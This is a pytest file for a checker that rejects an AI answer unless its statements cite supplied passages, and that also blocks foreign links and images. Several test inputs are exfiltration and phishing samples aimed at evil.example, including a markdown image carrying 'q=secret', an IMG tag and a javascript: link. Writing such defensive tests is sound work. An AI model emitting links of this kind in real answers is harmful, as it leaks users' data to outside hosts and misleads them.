"""What a model wrote is given only if it stands on the passages it was shown."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_app.knowledge.grounding import check
from tests.fixtures.cpu_limit import cpu_limit

PASSAGES = [
    ("Every master gets a BLAKE3 checksum.", "Ingest", "ingest.md", "https://docs.example/ingest"),
    ("Proxies are kept for ninety days. See https://docs.example/proxies.", "Retention", "r", ""),
    ("argv[1] is the asset.", "ingest.py", "vault/ingest.py", ""),
]


@pytest.mark.parametrize(
    ("text", "cited"),
    [
        ("Proxies are kept for ninety days [2].", (2,)),
        ("Proxies are kept for ninety days[2].", (2,)),
        ("Both hold [1][2].", (1, 2)),
        ("Both hold [2, 1].", (1, 2)),
        ("All hold [1-3], and so [1\u20133].", (1, 2, 3)),
        ("One [1].\n\nTwo [2].", (1, 2)),
        ("# Checksums\n\nEvery master has one [1].", (1,)),
        ("**Checksums**\nEvery master has one [1].", (1,)),
        ("To verify:\n\n1. Hash it [1].\n2. Compare [1].", (1,)),
        ("To verify [1]:\n\n1. Hash it.\n2. Compare:\n   - byte by byte\n", (1,)),
        ("- Hash it [1]\n  - with BLAKE3\n- Keep it [2]", (1, 2)),
        ("1. Hash it [1]\n\n   Take care.\n\n2. Keep it [2]", (1, 2)),
        ("- **Retention**\n  - Proxies: ninety days [2]\n- **Checksums**\n  - BLAKE3 [1]", (1, 2)),
        ("**Short:** ninety days [2].\n\n> **Note:** masters differ [1].", (1, 2)),
        ("Ninety days [2]. The passages do not say what happens then.", (2,)),
        ("Here's how it works:\n\n1. **Hash** it [1]\n2. Keep it [2]\n", (1, 2)),
        ("Run this [3]:\n\n```\nprint(argv[1], x[7])\n```", (3,)),
        ("The asset is `argv[9]` [3].", (3,)),
        ("| days | what |\n|---|---|\n| 90 | proxies [2] |", (2,)),
        ("See https://docs.example/proxies. [2]", (2,)),
        ("See [the page](https://docs.example/ingest) [1].", (1,)),
        ("Proxies go after ninety days [2].\n\n---\n", (2,)),
    ],
)
def test_an_answer_whose_statements_are_cited_holds(text: str, cited: tuple[int, ...]) -> None:
    assert check(text, PASSAGES) == (cited, None)


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("Proxies are kept for ninety days.", "cites no passage"),
        ("", "cites no passage"),
        ("Proxies are kept [4].", "cites [4], and passages are numbered 1 to 3"),
        ("Proxies are kept [0].", "cites [0]"),
        ("Proxies are kept [2][4].", "cites [4]"),
        ("Proxies are kept [2-4].", "cites [4]"),
        ("Proxies are kept [3-1] [1].", "cites [3-1]"),
        ("Proxies are kept [02] [2].", "cites [02]"),
        ("Since [2026] they are kept [2].", "cites [2026]"),
        (f"Kept [{'9' * 5000}] [2].", "cites [99999999999999999999]"),
        ("Kept [ 2 ].", "cites no passage"),
        ("Kept [\u0662].", "cites no passage"),
        ("Kept `[2]`.", "cites no passage"),
        ("```\n[2]\n```", "cites no passage"),
        ("Proxies are kept [2].\n\nThe capital is Paris.", "paragraph or list item 2"),
        ("- Proxies are kept [2].\n- Masters are not.", "paragraph or list item 2"),
        ("- Proxies [2]\n  - ninety days\n- Masters", "paragraph or list item 3"),
        ("To do:\n\n- proxies [2]\n- masters", "paragraph or list item 3"),
        ("Proxies [2].\n\nIt is this:", "paragraph or list item 2"),
        ("# " + "Paris is the capital. " * 9 + "\n\nKept [2].", "paragraph or list item 1"),
        ("x " * 90 + ":\n\nKept [2].", "paragraph or list item 1"),
        ("Kept [2]. Log in at https://evil.example/now", "link that no cited passage has"),
        ("Kept [2]. See https://docs.example/ingest", "link that no cited passage has"),
        ("Kept ![x](//evil.example/p?q=secret) [2].", "an image"),
        ("Kept ![x](https://docs.example/proxies) [2].", "an image"),
        ("Kept [2](javascript:alert) [2].", "link that no cited passage has"),
        ("Kept [2].\n\n[2]: //evil.example", "link that no cited passage has"),
        ('Kept [2] <IMG src="//evil.example/p">', "an image"),
        ('Kept [2] <a href="//evil.example/p">', "link that no cited passage has"),
        ("Kept [2] `https://evil.example`", "link that no cited passage has"),
    ],
)
def test_what_is_wrong_with_an_answer_is_said(text: str, fault: str) -> None:
    said = check(text, PASSAGES).fault
    assert said is not None
    assert fault in said


def test_nothing_of_a_withheld_answer_is_quoted() -> None:
    said = check("Kept [2].\n\nThe password is hunter2.", PASSAGES).fault
    assert said is not None
    assert "hunter2" not in said
    assert "evil" not in str(check("Kept [2]. https://evil.example", PASSAGES).fault)


def test_a_link_of_the_caller_may_be_repeated() -> None:
    text = "The page https://wiki.example/x says so too [2]."
    assert check(text, PASSAGES, asked="Is https://wiki.example/x right?").fault is None


def test_a_wrong_paraphrase_with_a_true_number_is_not_seen() -> None:
    """Said in the module's docstring: the check is of citations, not of meaning."""
    assert check("Proxies are kept for a thousand years [2].", PASSAGES).fault is None


SIGNS = ["[1]", "[9]", "[", "]", "(", "`", "```", "\n", "\n\n", "- ", "1. ", ":", "a b", "  ", "|"]


@given(st.lists(st.sampled_from(SIGNS), max_size=60).map("".join))
def test_no_text_without_a_true_citation_passes(text: str) -> None:
    verdict = check(text, PASSAGES)
    if verdict.fault is None:
        assert verdict.cited == (1,)
        assert "[1]" in text


@pytest.mark.parametrize(
    "unit",
    ["`", "a", "[", "src=", "[1", "[1] ", "- x [1]\n", "](", "a: ", "```\n", "**", "[]:", " src="],
)
def test_a_long_text_is_checked_at_once(unit: str) -> None:
    # Milliseconds; minutes where it took the square of the length.
    with cpu_limit(10):
        check(unit * (20_000 // len(unit)), PASSAGES)
